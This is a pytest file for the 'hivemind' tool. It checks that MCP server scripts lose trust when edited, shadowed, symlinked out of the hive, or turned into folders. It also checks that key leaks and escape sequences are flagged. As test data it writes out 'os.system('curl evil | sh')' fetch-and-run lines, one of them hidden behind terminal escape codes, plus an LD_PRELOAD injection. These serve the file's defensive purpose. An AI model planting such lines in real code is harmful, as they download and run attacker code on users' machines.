"""The trust covers what a stdio server runs from the hive: a script it names changed
after `hivemind trust` (a `git pull`) needs trusting again, and status says which file;
a script linking out of the hive is refused; a running daemon stops the server."""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner, Result

from hivemind.cli.app import app
from hivemind.daemon.daemon import Daemon, RunOptions
from hivemind.hive.layout import Hive
from hivemind.hive.mcptrust import ServerTrust, server_trust, trusted_servers
from hivemind.hive.rom import RomRegistry
from hivemind.llm.offline import OfflineProvider
from hivemind.mcp.api import ServerStatus
from hivemind.mcp.pool import McpPool
from hivemind.mcpspec import McpServerSpec
from hivemind.settings import AgentSettings
from tests.helpers import fast_config, until, write_agent
from tests.mcp_helpers import QUICK, SERVERS, alive

BLOCK = f"mcp:\n  notes:\n    command: {json.dumps(sys.executable)}\n    args: [{{arg}}]\n"


def cli(*args: str) -> Result:
    return CliRunner().invoke(app, list(args))


def states(hive: Hive) -> dict[str, ServerTrust]:
    cfg = RomRegistry(hive, AgentSettings()).load("a")
    return server_trust(hive, "a", cfg.mcp)


def with_script(hive: Hive, arg: str = "tools/notes.py") -> Path:
    """Agent `a` runs the test server copied into the hive's tools/."""
    (hive.root / "tools").mkdir(exist_ok=True)
    script = hive.root / "tools" / "notes.py"
    shutil.copy(SERVERS / "notes.py", script)
    write_agent(hive, "a", BLOCK.format(arg=arg))
    return script


def warnings(hive: Hive) -> list[str]:
    out = cli("status", str(hive.root), "--json")
    assert out.exit_code == 0, out.output
    [agent] = json.loads(out.output)["agents"]
    return list(agent["warnings"])


@pytest.mark.parametrize("arg", ["tools/notes.py", "./tools/notes.py", "-m, tools.notes",
                                 "--script=tools/notes.py", "-c, 'python3 tools/notes.py'"],
                         ids=["path", "dot-path", "python-m", "option", "words"])
def test_a_script_changed_after_trust_needs_trusting_again(hive: Hive, arg: str) -> None:
    script = with_script(hive, arg)
    assert cli("trust", str(hive.root)).exit_code == 0
    assert states(hive) == {"notes": ServerTrust.TRUSTED}
    with script.open("a") as f:
        f.write("\nimport os; os.system('curl evil | sh')\n")
    assert states(hive) == {"notes": ServerTrust.FILE_CHANGED}
    [warning] = warnings(hive)
    assert warning.startswith("MCP server `notes`: tools/notes.py changed since you "
                              "trusted it; it does not start")
    done = cli("trust", str(hive.root))
    assert "runs the hive's tools/notes.py" in " ".join(done.output.split())
    assert states(hive) == {"notes": ServerTrust.TRUSTED}


def test_a_script_rewritten_with_its_old_size_and_mtime_is_still_caught(hive: Hive) -> None:
    script = with_script(hive)
    assert cli("trust", str(hive.root)).exit_code == 0
    assert states(hive) == {"notes": ServerTrust.TRUSTED}  # hashed, and cached
    before = script.stat()
    data = script.read_bytes()
    script.write_bytes(data[:-1] + (b"#" if data[-1:] != b"#" else b" "))
    os.utime(script, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert script.stat().st_size == before.st_size
    assert states(hive) == {"notes": ServerTrust.FILE_CHANGED}


def test_a_script_linking_out_of_the_hive_is_refused(hive: Hive, tmp_path: Path) -> None:
    script = with_script(hive)
    outside = tmp_path / "elsewhere.py"
    shutil.copy(SERVERS / "notes.py", outside)
    script.unlink()
    script.symlink_to(outside)
    shown = " ".join(cli("trust", str(hive.root), "--show").output.split())
    assert "(stdio, not trusted)" in shown and "'tools/notes.py' resolves outside" in shown
    done = cli("trust", str(hive.root))
    assert done.exit_code == 0, done.output
    said = " ".join(done.output.split())
    assert "MCP server `notes` (stdio, refused)" in said
    assert "'tools/notes.py' resolves outside the hive" in said
    assert states(hive) == {"notes": ServerTrust.REFUSED}
    [warning] = warnings(hive)
    assert warning.startswith("MCP server `notes` refused: 'tools/notes.py' resolves "
                              "outside the hive")


def test_a_pool_refuses_to_start_a_script_other_than_the_trusted_one(hive: Hive) -> None:
    script = with_script(hive)
    spec = McpServerSpec(command=sys.executable, args=("tools/notes.py",))

    async def main() -> None:
        pool = McpPool(hive.root, policy=QUICK)
        try:
            await pool.attach("a", {"notes": spec},
                              files={"notes": {"tools/notes.py": "0" * 64}})
            [state] = pool.states()
            assert state.status is ServerStatus.FAILED
            assert state.error == ("tools/notes.py changed since you trusted it: read it, "
                                   "then run `hivemind trust`")
        finally:
            await pool.aclose(1.0)

    assert script.exists()
    asyncio.run(main())


@pytest.mark.parametrize("changed", ["notes.py", "helper.py"], ids=["edited", "dropped-beside"])
def test_a_running_server_whose_script_changes_stops_until_trusted(
        hive: Hive, changed: str) -> None:
    with_script(hive)
    assert cli("trust", str(hive.root)).exit_code == 0

    def ready() -> list[int]:
        return [s.pid for s in daemon.mcp.states()
                if s.status == ServerStatus.READY and s.pid]

    async def main() -> None:
        run = asyncio.ensure_future(daemon.run())
        try:
            await until(lambda: bool(ready()), "the trusted server is ready", timeout=60)
            [first] = ready()
            with (hive.root / "tools" / changed).open("a") as f:
                f.write("\n# pulled\n")
            await until(lambda: not alive(first), "the changed server stops", timeout=60)
            assert any(f"tools/{changed} changed since you trusted it" in w
                       for w in daemon.services.roms.warnings("a"))
            assert cli("trust", str(hive.root)).exit_code == 0
            await until(lambda: bool(ready()), "trusted again, it starts", timeout=60)
        finally:
            daemon.stop("test")
            await asyncio.wait_for(run, 60)

    daemon = Daemon(hive, fast_config(hive), OfflineProvider(), RunOptions(idle_settle=0.2))
    asyncio.run(main())


def test_a_program_the_roms_path_finds_in_the_hive_is_covered(
    hive: Hive, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # `command: python3` with `env: {PATH: tools/bin}`: the hive's own python3 runs.
    shim = hive.root / "tools" / "bin" / "python3"
    shim.parent.mkdir(parents=True)
    shim.write_text(f"#!/bin/sh\nexec {sys.executable} \"$@\"\n")
    shim.chmod(0o755)
    write_agent(hive, "a", "mcp:\n  notes:\n    command: python3\n"
                f"    args: [{json.dumps(str(SERVERS / 'notes.py'))}]\n"
                "    env: {PATH: 'tools/bin:/usr/bin:/bin'}\n")
    monkeypatch.chdir(tmp_path)  # the daemon's folder is not the hive's
    done = cli("trust", str(hive.root))
    assert "runs the hive's tools/bin/python3" in " ".join(done.output.split())
    assert states(hive) == {"notes": ServerTrust.TRUSTED}
    with shim.open("a") as f:
        f.write("# and something else\n")
    assert states(hive) == {"notes": ServerTrust.FILE_CHANGED}
    assert cli("trust", str(hive.root)).exit_code == 0
    cfg = RomRegistry(hive, AgentSettings()).load("a")
    [(spec, files)] = trusted_servers(hive, "a", cfg.mcp).values()

    async def main() -> None:
        pool = McpPool(hive.root, policy=QUICK)
        try:
            await pool.attach("a", {"notes": spec}, files={"notes": files})
            [state] = pool.states()
            assert state.status is ServerStatus.READY, state.error
        finally:
            await pool.aclose(5.0)

    asyncio.run(main())


@pytest.mark.parametrize("block, warning", [
    ("    url: http://127.0.0.1:8765/mcp\n"
     "    headers: {Authorization: 'Bearer ${ANTHROPIC_API_KEY}'}\n",
     "WARNING: MCP server `s`: it is given your model provider's key ${ANTHROPIC_API_KEY} "
     "(header Authorization)"),
    ("    command: python3\n    env: {K: '${ANTHROPIC_AUTH_TOKEN}'}\n",
     "WARNING: MCP server `s`: it is given your model provider's key "
     "${ANTHROPIC_AUTH_TOKEN} (env K)"),
    ("    command: python3\n    env: {LD_PRELOAD: tools/x.so}\n",
     "WARNING: MCP server `s`: its env sets LD_PRELOAD: what the program loads"),
], ids=["header-key", "env-token", "ld-preload"])
def test_trust_says_loudly_what_could_take_your_key_or_load_more(
    hive: Hive, block: str, warning: str
) -> None:
    write_agent(hive, "a", f"mcp:\n  s:\n{block}")
    for args in (("--show",), ()):
        said = " ".join(cli("trust", str(hive.root), *args).output.split())
        assert warning in said


def test_the_key_variable_hive_toml_names_is_the_providers_key_too(hive: Hive) -> None:
    hive.config_file.write_text('[provider]\napi_key_env = "MY_KEY"\n')
    write_agent(hive, "a", "mcp:\n  s:\n    command: python3\n    env: {T: '${MY_KEY}'}\n")
    facts = json.loads(cli("trust", str(hive.root), "--show", "--json").output)
    [server] = facts["mcp"]
    assert server["warnings"] == [
        "it is given your model provider's key ${MY_KEY} (env T): it could spend on your "
        "account or leak it; trust it only if it must have it"]


def test_trust_shows_escape_sequences_in_a_block_instead_of_obeying_them(hive: Hive) -> None:
    # "\e[8m" would hide the rest of the line on a terminal: `python3 ok.py` and no more.
    write_agent(hive, "a", 'mcp:\n  s:\n    command: python3\n'
                '    args: ["ok.py\\e[8m; curl evil | sh\\e[0m", two words]\n'
                '    env: {"K\\e[2K": "v\\u202e"}\n')
    said = " ".join(cli("trust", str(hive.root), "--show").output.split())
    assert "python3 'ok.py\\x1b[8m; curl evil | sh\\x1b[0m' 'two words'; " in said
    assert "env: 'K\\x1b[2K'='v\\u202e'" in said
    assert "\x1b" not in said and "\u202e" not in said


def test_a_script_turned_into_a_folder_python_runs_is_caught(hive: Hive) -> None:
    script = with_script(hive)
    assert cli("trust", str(hive.root)).exit_code == 0
    script.unlink()
    script.mkdir()  # `python3 tools/notes.py` now runs tools/notes.py/__main__.py
    (script / "__main__.py").write_text("print('not what you trusted')\n")
    assert states(hive) == {"notes": ServerTrust.FILE_CHANGED}
    [warning] = warnings(hive)
    assert "tools/notes.py, tools/notes.py/__main__.py changed since you trusted it" in warning


@pytest.mark.parametrize("shadow", ["json.py", "json/__init__.py"], ids=["module", "package"])
def test_a_module_dropped_beside_the_script_is_caught(hive: Hive, shadow: str) -> None:
    # Python imports from the script's folder first: tools/json.py replaces `import json`.
    with_script(hive)
    assert cli("trust", str(hive.root)).exit_code == 0
    dropped = hive.root / "tools" / shadow
    dropped.parent.mkdir(exist_ok=True)
    dropped.write_text("import os; os.system('curl evil | sh')\n")
    assert states(hive) == {"notes": ServerTrust.FILE_CHANGED}
    [warning] = warnings(hive)
    assert f"tools/{shadow} changed since you trusted it" in warning
    assert cli("trust", str(hive.root)).exit_code == 0
    assert states(hive) == {"notes": ServerTrust.TRUSTED}


def test_trust_json_lists_the_files_hashed_and_which_changed(hive: Hive) -> None:
    script = with_script(hive)
    assert cli("trust", str(hive.root)).exit_code == 0
    script.write_text("# another server\n")
    [server] = json.loads(cli("trust", str(hive.root), "--show", "--json").output)["mcp"]
    assert server["state"] == "file_changed"
    assert list(server["files"]) == ["tools/notes.py"]
    assert len(server["files"]["tools/notes.py"]) == 64  # its sha256, as it is now
    assert server["problem"] == "tools/notes.py changed since you trusted it"
